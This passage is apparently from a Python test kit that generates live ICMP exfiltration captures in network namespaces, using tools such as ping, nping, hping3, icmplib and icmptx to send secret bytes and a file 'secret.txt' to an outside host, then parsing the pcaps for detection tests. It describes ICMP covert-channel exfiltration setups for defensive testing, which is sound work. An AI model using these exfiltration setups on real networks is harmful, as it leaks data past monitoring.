    "ping-patterns": PING_PATTERNS.format(patterns="<40 x 16 secret bytes in hex>"),
    "nping-ident-seq": NPING_IDENT_SEQ.format(words="<200 x id:seq, 4 secret bytes each>"),
    "icmplib-monitor": f"{_ip_text(ICMPLIB_ADDRS)}; inside: {_icmplib_text(ICMPLIB_MONITOR, ICMPLIB_HOSTS)}",
    "icmplib-flood": _icmplib_text(ICMPLIB_FLOOD, [OUTSIDE]),
    "pythonping-monitor": f"{_ip_text(ICMPLIB_ADDRS)}; inside: {_pythonping_text(PYTHONPING_MONITOR, ICMPLIB_HOSTS)}",
    "pythonping-flood": _pythonping_text(PYTHONPING_FLOOD, [OUTSIDE]),
    "hping3-rand-dest": f"{_ip_text(SPREAD_ROUTES)}; inside: {_cmd(_fmt(HPING_RAND_DEST, file='secret.txt'))}",
}

_TO: dict[str, str] = {  # where the packets went, where it is not the outside host's one address
    "icmplib-monitor": f"outside {', '.join(ICMPLIB_HOSTS)}",
    "pythonping-monitor": f"outside {', '.join(ICMPLIB_HOSTS)}",
    "hping3-rand-dest": f"random addresses of {SPREAD_NET} (routed to outside {OUTSIDE}, blackholed there)",
}

LIVE_PROVENANCE: dict[str, str] = {
    case: f"{package} {_package_version(package)} ({'PyPI' if package in _PYPI else 'Debian'}): {_COMMANDS[case]}; "
          f"inside {INSIDE} -> {_TO.get(case, f'outside {OUTSIDE}')}, captured with "
          f"{_cmd(_fmt(TCPDUMP, pcap=case + '.pcap'))} on the outside end of the veth pair"
    for case, (package, _) in _TOOLS.items()
}


def missing_prerequisite(case: str | None = None) -> str | None:
    """Why the live tool cases (or one `case`) cannot run here, or None."""
    if os.geteuid() != 0:
        return "live tool captures need root (network namespaces, raw sockets, tcpdump)"
    for tool in ("ip", "timeout", "tcpdump", "ping"):
        if shutil.which(tool) is None:
            return f"live tool captures need {tool} (bash packaging/dev.sh setup installs it)"
    if case is None:
        return None
    package, tools = _TOOLS[case]
    if package in _PYPI and importlib.util.find_spec(package) is None:
        return f"{case}: the Python package {package} is not installed (PyPI; pip install -e '.[test]')"
    for tool in tools:
        if shutil.which(tool) is None:
            return f"{case}: {tool} is not installed (Debian package {package}; bash packaging/dev.sh setup)"
    if case == "icmptx":
        try:
            fd = os.open("/dev/net/tun", os.O_RDWR)
        except OSError as e:
            return f"icmptx needs a usable /dev/net/tun (tun driver): cannot open it: {e.strerror}"
        os.close(fd)
    return None


# -- reading a capture back ------------------------------------------------------------------

def _icmp_packets(pcap: Path) -> Iterator[tuple[float, str, str, int, bytes]]:
    """(ts, src, dst, ICMP type, bytes after the 8-byte ICMP header) of every ICMP/ICMPv6 packet."""
    import ipaddress

    with open(pcap, "rb") as f:
        for ts, frame in dpkt.pcap.Reader(f):
            eth = dpkt.ethernet.Ethernet(frame)
            ip = eth.data
            v4 = isinstance(ip, dpkt.ip.IP) and ip.p == dpkt.ip.IP_PROTO_ICMP
            if not v4 and not (isinstance(ip, dpkt.ip6.IP6) and ip.nxt == dpkt.ip.IP_PROTO_ICMP6):
                continue
            raw = bytes(ip.data)
            if len(raw) < 8:
                continue
            yield (float(ts), str(ipaddress.ip_address(ip.src)), str(ipaddress.ip_address(ip.dst)), raw[0], raw[8:])


def first_exfil_time(pcap: Path, source: str) -> float | None:
    """Capture time of the first ICMP packet from `source` that carries payload, or None."""
    for ts, src, _, _, payload in _icmp_packets(pcap):
        if src == source and payload:
            return ts
    return None


def capture_summary(pcap: Path) -> dict[tuple[str, str], tuple[int, int]]:
    """(src, dst) -> (ICMP packets, payload bytes) in a capture."""
    out: dict[tuple[str, str], tuple[int, int]] = {}
    for _, src, dst, _, payload in _icmp_packets(pcap):
        n, size = out.get((src, dst), (0, 0))
        out[(src, dst)] = (n + 1, size + len(payload))
    return out


def main(argv: list[str]) -> int:
    """`python -m testkit.livetools WORKDIR [CASE...]`: make the captures and print what they hold."""
    if len(argv) < 1:
        print("usage: python -m testkit.livetools WORKDIR [CASE...]", file=sys.stderr)
        return 2
    workdir = Path(argv[0])
    for case in argv[1:] or list(LIVE_CASES):
        reason = missing_prerequisite(case)
        if reason:
            print(f"{case}: skipped: {reason}")
            continue
        start = time.monotonic()
        pcap = LIVE_CASES[case](workdir)
        print(f"{case}: {pcap} in {time.monotonic() - start:.1f} s; first exfil packet at "
              f"{first_exfil_time(pcap, INSIDE)}; {capture_summary(pcap)}")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
